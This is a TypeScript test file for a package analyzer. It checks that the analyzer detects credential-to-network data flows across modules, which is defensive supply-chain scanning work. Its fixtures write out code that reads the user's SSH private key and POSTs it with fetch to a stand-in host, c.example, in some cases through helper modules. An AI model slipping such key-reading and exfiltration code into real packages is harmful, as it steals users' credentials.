import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyzePackage } from '../analyze-package.ts';

/** The data-flow facts of a package of files: 'file:line detail'. */
async function flows(files: Record<string, string>): Promise<string[]> {
  const facts = await analyzePackage(
    Object.entries(files).map(([path, text]) => ({ path, data: Buffer.from(text) })),
    { workers: 1 },
  );
  return facts.sources.flatMap((source) =>
    source.constructs
      .filter((fact) => fact.kind === 'data-flow')
      .map((fact) => `${fact.file}:${fact.line} ${fact.detail}`),
  );
}

const KEYS = [
  "const fs = require('fs'); const os = require('os');",
  'function collect() {',
  "  return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');",
  '}',
  'module.exports = { collect };',
].join('\n');

describe('data flow across the package modules', () => {
  test("a module's function returns a credential that the caller posts", async () => {
    const got = await flows({
      'package/lib/keys.js': KEYS,
      'package/build/run.js': [
        "const keys = require('../lib/keys');",
        'const k = keys.collect();',
        "fetch('https://c.example/k', { method: 'POST', body: k });",
      ].join('\n'),
    });
    assert.deepEqual(got, ['package/build/run.js:3 credential-file -> network:builtins.fetch @c.example']);
  });

  test('a value handed to a function of another module whose parameter reaches a sink, two modules deep', async () => {
    const got = await flows({
      'package/lib/keys.js': KEYS,
      'package/lib/send.ts': "import { post } from './net.js';\nexport function send(d) { post(d); }",
      'package/lib/net.ts':
        "export function post(b) { fetch('https://c.example/p', { method: 'POST', body: b }); }",
      'package/index.mjs':
        "import { collect } from './lib/keys.js';\nimport { send } from './lib/send.js';\nsend(collect());",
    });
    assert.deepEqual(got, [
      'package/index.mjs:3 credential-file -> network:builtins.fetch @c.example via send',
    ]);
  });

  test('a default export, and nothing when the module is not in the package or returns nothing read', async () => {
    const got = await flows({
      'package/keys.js': KEYS.replace('module.exports = { collect };', 'module.exports = collect;'),
      'package/conf.js': "module.exports = function load() { return { theme: 'dark' }; };",
      'package/a.js': [
        "const collect = require('./keys.js'); const load = require('./conf');",
        "const missing = require('./gone');",
        "fetch('https://c.example/a', { method: 'POST', body: load() });",
        "fetch('https://c.example/b', { method: 'POST', body: missing.read() });",
        "fetch('https://c.example/c', { method: 'POST', body: collect() });",
      ].join('\n'),
    });
    assert.deepEqual(got, ['package/a.js:5 credential-file -> network:builtins.fetch @c.example']);
  });
});
